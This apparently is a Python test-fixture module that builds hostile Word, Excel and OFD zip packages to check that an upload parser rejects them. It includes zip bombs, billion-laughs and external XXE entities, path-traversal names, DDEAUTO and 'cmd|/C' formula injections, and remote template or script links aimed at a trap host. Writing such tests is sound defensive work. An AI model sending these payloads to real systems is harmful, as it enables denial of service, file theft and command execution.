"""上传之害·文件包: zip packages that are made to harm: bombs, entities, links outward, macros, sizes that are not so."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator, Mapping
from html import escape

from tests.published.zoo import CANARY, REPORT, TABLE, Beast, Trap, fixed, made

OFFICE = "http://schemas.openxmlformats.org"
RELATIONS = f"{OFFICE}/officeDocument/2006/relationships"
WORD = f"{OFFICE}/wordprocessingml/2006/main"
SHEET = f"{OFFICE}/spreadsheetml/2006/main"

Parts = Mapping[str, str | bytes]


def packed(parts: Parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def relations(*relations: tuple[str, str, str]) -> str:
    """The relations of a part: the kind of each, where it leads, and whether outside."""
    each = "".join(
        f'<Relationship Id="r{at}" Type="{RELATIONS}/{kind}" Target="{escape(target)}" {mode}/>'
        for at, (kind, target, mode) in enumerate(relations)
    )
    return f'<Relationships xmlns="{OFFICE}/package/2006/relationships">{each}</Relationships>'


def paragraphs(text: str = REPORT) -> str:
    return "".join(f"<w:p><w:r><w:t>{escape(line)}</w:t></w:r></w:p>" for line in text.split("\n"))


def table() -> str:
    rows = ("".join(f"<w:tc>{paragraphs(cell)}</w:tc>" for cell in row) for row in TABLE)
    return f"<w:tbl>{''.join(f'<w:tr>{row}</w:tr>' for row in rows)}</w:tbl>"


def document(body: str, before: str = "") -> str:
    space = f'xmlns:w="{WORD}" xmlns:r="{RELATIONS}"'
    return f'<?xml version="1.0" encoding="UTF-8"?>{before}<w:document {space}><w:body>{body}</w:body></w:document>'


def word(body: str, before: str = "", **more: str | bytes) -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": "<Types/>",
        "_rels/.rels": relations(("officeDocument", "word/document.xml", "")),
        "word/document.xml": document(body, before),
        **{name.replace("__", "/"): content for name, content in more.items()},
    }


def cell(name: str, text: str) -> str:
    return f'<c r="{name}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def sheet(rows: str, before: str = "") -> str:
    return f'{before}<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData></worksheet>'


def told() -> str:
    """The rows of a worksheet with a report in it."""
    lines = [(line,) for line in REPORT.split("\n")] + list(TABLE)
    return "".join(
        f'<row r="{at}">{"".join(cell(f"{chr(65 + column)}{at}", text) for column, text in enumerate(line))}</row>'
        for at, line in enumerate(lines, 1)
    )


def book(rows: str, before: str = "", **more: str | bytes) -> dict[str, str | bytes]:
    named = '<sheet name="表" sheetId="1" r:id="r0"/>'
    return {
        "[Content_Types].xml": "<Types/>",
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{RELATIONS}"><sheets>{named}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(("worksheet", "worksheets/sheet1.xml", "")),
        "xl/worksheets/sheet1.xml": sheet(rows, before),
        **{name.replace("__", "/"): content for name, content in more.items()},
    }


def laid(content: str, before: str = "") -> dict[str, str | bytes]:
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    page = f"{before}<ofd:Page {space}><ofd:Content><ofd:Layer>{content}</ofd:Layer></ofd:Content></ofd:Page>"
    return {"OFD.xml": f"<ofd:OFD {space}/>", "Doc_0/Pages/Page_0/Content.xml": page}


def laughs(root: str) -> str:
    """Ten entities, each ten times the one before."""
    entities = "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 10))
    return f'<!DOCTYPE {root} [<!ENTITY a0 "哈哈哈哈哈哈哈哈哈哈">{entities}]>'


def outside(trap: Trap, root: str) -> str:
    """Entities that lead outside."""
    return (
        f'<!DOCTYPE {root} SYSTEM "{trap.address}/a.dtd" [<!ENTITY b SYSTEM "file://{trap.canary}">'
        f'<!ENTITY % c SYSTEM "{trap.address}/c.dtd"> %c;]>'
    )


def claiming(data: bytes, size: int = 2**31 - 1) -> bytes:
    """The same package, every size in its directory and heads another."""
    changed = bytearray(data)
    for sign, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = data.find(sign)
        while start >= 0:
            struct.pack_into("<I", changed, start + at, size)
            start = data.find(sign, start + 1)
    return bytes(changed)


def overlapping(data: bytes, times: int) -> bytes:
    """A package whose directory names the same bytes many times over, under other names."""
    directory = data.index(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    entry = data[directory:end]
    entries = [entry[: entry.index(b"PK\x01\x02", 4)] if entry.count(b"PK\x01\x02") > 1 else entry] * times
    records = entry + b"".join(entries)
    count = min(65_535, records.count(b"PK\x01\x02"))
    tail = b"PK\x05\x06\0\0\0\0" + struct.pack("<HHIIH", count, count, len(records), directory, 0)
    return data[:directory] + records + tail


def many(count: int) -> bytes:
    parts = word(paragraphs()) | {f"word/media/{at}.png": b"" for at in range(count)}
    return packed(parts, zipfile.ZIP_STORED)


def nested(depth: int) -> bytes:
    data = b"0" * 10**6
    for at in range(depth):
        data = packed({f"{at}-{number}.zip": data for number in range(8)})
    return data


def locked(data: bytes) -> bytes:
    """The flag of encryption set on every part."""
    changed = bytearray(data)
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(sign)
        while start >= 0:
            changed[start + at] |= 1
            start = data.find(sign, start + 1)
    return bytes(changed)


def _linked(trap: Trap) -> bytes:
    """Everything of a Word file that leads outside: pictures, templates, frames, pieces of other files, fields."""
    there = (
        ("image", f"{trap.address}/a.png", 'TargetMode="External"'),
        ("attachedTemplate", f"{trap.address}/b.dotm", 'TargetMode="External"'),
        ("image", "\\\\127.0.0.1\\share\\c.png", 'TargetMode="External"'),
        ("frame", f"file://{trap.canary}", 'TargetMode="External"'),
        ("oleObject", f"file://{trap.canary}", 'TargetMode="External"'),
        ("aFChunk", "../piece.html", ""),
        ("aFChunk", f"../../../../../../../..{trap.canary}", ""),
        ("numbering", f"../../../../../../../..{trap.canary}", ""),
    )
    fields = (
        f'<w:p><w:r><w:instrText>INCLUDETEXT "{trap.canary}"</w:instrText></w:r></w:p>'
        f'<w:p><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k touch {trap.mark}"</w:instrText></w:r></w:p>'
        '<w:altChunk r:id="r5"/><w:altChunk r:id="r6"/><w:subDoc r:id="r3"/>'
    )
    more = {
        "word___rels__document.xml.rels": relations(*there),
        "piece.html": f"<script src='{trap.address}'></script>",
    }
    return packed(word(paragraphs() + fields + table(), **more))


def _leading_away(trap: Trap) -> bytes:
    """The main part itself is elsewhere."""
    parts = word(paragraphs())
    parts["_rels/.rels"] = relations(("officeDocument", f"../../../../../..{trap.canary}", ""))
    return packed(parts)


def _linked_book(trap: Trap) -> bytes:
    formula = f'<row r="99"><c r="A99"><f>cmd|\'/C touch {trap.mark}\'!A0</f><v>1</v></c>'
    web = f'<c r="B99"><f>WEBSERVICE("{trap.address}")</f><v>2</v></c></row>'
    links = relations(("externalLinkPath", f"{trap.address}/a.xlsx", 'TargetMode="External"'))
    return packed(book(told() + formula + web, **{"xl__externalLinks___rels__externalLink1.xml.rels": links}))


def _zeros() -> bytes:
    return b"0" * (300 * 2**20)


def _bombs() -> Iterator[Beast]:
    yield Beast("bomb: a part of 300 MB", lambda trap: packed(word("") | {"word/document.xml": _zeros()}), says="过大")
    yield Beast(
        "bomb: a worksheet of 300 MB",
        lambda trap: packed(book("") | {"xl/worksheets/sheet1.xml": _zeros()}),
        says="过大",
        long=True,
    )
    yield Beast(
        "bomb: another part of 300 MB", lambda trap: packed(word(paragraphs()) | {"word/a.bin": _zeros()}), long=True
    )
    yield Beast(
        "bomb: styles of 300 MB",
        lambda trap: packed(word(paragraphs()) | {"word/footnotes.xml": _zeros()}),
        says="过大",
        long=True,
    )
    yield Beast("bomb: zips in zips", made(lambda: nested(5)), says="解压")
    yield Beast("bomb: 60,000 parts", made(lambda: many(60_000)), long=True)
    yield Beast("bomb: 20,000 parts", made(lambda: many(20_000)))
    yield Beast("bomb: parts upon each other", made(lambda: overlapping(packed(word(paragraphs())), 60_000)))
    yield Beast("bomb: blanks of 12 MB", made(lambda: packed(word(" " * (11 * 2**20)))))
    yield Beast("bomb: text of 11 MB", made(lambda: packed(word(paragraphs(REPORT * 20_000)))))
    yield Beast("bomb: 700,000 tags", made(lambda: packed(word(paragraphs() + "<w:p/>" * 700_000))))
    yield Beast("bomb: 59,000 cells", made(lambda: packed(word(paragraphs() + f"<w:tbl>{_word_cells(590)}</w:tbl>"))))
    yield Beast("bomb: cells a milliard wide", made(lambda: packed(word(paragraphs() + _wide(9_999_999)))), says="过大")
    yield Beast("bomb: 600,000 cells of xlsx", made(lambda: packed(book(told() + _sheet_cells(60_000)))), says="过大")
    last = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    yield Beast("bomb: the last cell of a worksheet", made(lambda: packed(book(told() + last))), says="过大")
    deep = "<w:sdt><w:sdtContent>" * 100
    yield Beast(
        "deep content controls", made(lambda: packed(word(deep + paragraphs() + "</w:sdtContent></w:sdt>" * 100)))
    )
    yield Beast(
        "deep tables",
        made(lambda: packed(word(paragraphs() + "<w:tbl><w:tr><w:tc>" * 70 + "</w:tc></w:tr></w:tbl>" * 70))),
    )
    yield Beast("deeper tables", made(lambda: packed(word("<w:tbl><w:tr><w:tc>" * 50_000))), says="损坏")
    objects = (
        "<ofd:TextObject Boundary='0 0 9 9' Size='3'><ofd:TextCode X='0' Y='3'>公开</ofd:TextCode></ofd:TextObject>"
    )
    yield Beast("bomb: OFD of 90,000 texts", made(lambda: packed(laid(objects * 90_000))))
    steps = objects.replace("X='0'", "DeltaX='g 999999999 1'")
    yield Beast("bomb: OFD of a milliard steps", made(lambda: packed(laid(steps * 50))))
    paths = "<ofd:PathObject Boundary='0 0 9 9'><ofd:AbbreviatedData>M 0 0 L 9 0 L 9 9 C</ofd:AbbreviatedData></ofd:PathObject>"
    yield Beast("bomb: OFD of 40,000 lines", made(lambda: packed(laid(objects + paths * 40_000))))


def _word_cells(rows: int) -> str:
    return f"<w:tr>{'<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>' * 100}</w:tr>" * rows


def _wide(span: int) -> str:
    return f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'


def _sheet_cells(rows: int) -> str:
    return f"<row>{'<c><v>1</v></c>' * 10}</row>" * rows


def _claims() -> Iterator[Beast]:
    yield Beast("docx that claims 2 GB", made(lambda: claiming(packed(word(paragraphs())))))
    yield Beast("xlsx that claims 2 GB", made(lambda: claiming(packed(book(told())))))
    yield Beast("docx that claims nothing", made(lambda: claiming(packed(word(paragraphs())), 0)))
    yield Beast("docx locked", made(lambda: locked(packed(word(paragraphs())))), says="加密")
    yield Beast("xlsx locked", made(lambda: locked(packed(book(told())))), says="加密")
    yield Beast("docx packed otherwise", made(lambda: packed(word(paragraphs()), zipfile.ZIP_LZMA)))
    yield Beast(
        "names that climb",
        made(lambda: packed(word(paragraphs()) | {"../../../tmp/x": "x", "/etc/x": "x", "C:\\x": "x"})),
    )
    yield Beast("no part at all", made(lambda: packed({})), says="解压")
    yield Beast("the same part twice", made(lambda: packed(word(paragraphs())) + packed(word(paragraphs(CANARY)))))
    for name, parts in (("docm", word(paragraphs() + table())), ("xlsm", book(told()))):
        folder = "word" if name == "docm" else "xl"
        yield Beast(
            f"macros: {name}",
            fixed(packed(parts | {f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 999})),
            f"年报.{name}",
        )


def _entities() -> Iterator[Beast]:
    laugh = "<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>"
    yield Beast("entities: docx", fixed(packed(word(paragraphs() + laugh, laughs("w:document")))), says="年报")
    yield Beast(
        "entities: xlsx",
        fixed(packed(book(told() + "<row><c><v>&a9;</v></c></row>", laughs("worksheet")))),
        says="年报",
    )
    yield Beast("entities: OFD", fixed(packed(laid("&a9;", laughs("ofd:Page")))), says="年报")
    kept = "<w:p><w:r><w:t>&b;</w:t></w:r></w:p>"
    yield Beast(
        "outside: docx", lambda trap: packed(word(paragraphs() + kept, outside(trap, "w:document"))), says="年报"
    )
    yield Beast(
        "outside: xlsx",
        lambda trap: packed(book(told() + "<row><c><v>&b;</v></c></row>", outside(trap, "worksheet"))),
        says="年报",
    )
    yield Beast("outside: OFD", lambda trap: packed(laid("&b;", outside(trap, "ofd:Page"))), says="年报")
    yield Beast(
        "outside: relations",
        lambda trap: packed(word(paragraphs()) | {"_rels/.rels": outside(trap, "Relationships") + relations()}),
        says="年报",
    )
    names = {"xl/sharedStrings.xml": laughs("sst") + f'<sst xmlns="{SHEET}"><si><t>&a9;</t></si></sst>'}
    yield Beast("entities: shared words", fixed(packed(book(told()) | names)))
    yield Beast("links of docx", _linked)
    yield Beast("main part elsewhere", _leading_away, says="年报")
    yield Beast("links of xlsx", _linked_book)


def beasts() -> Iterator[Beast]:
    yield from _bombs()
    yield from _claims()
    yield from _entities()
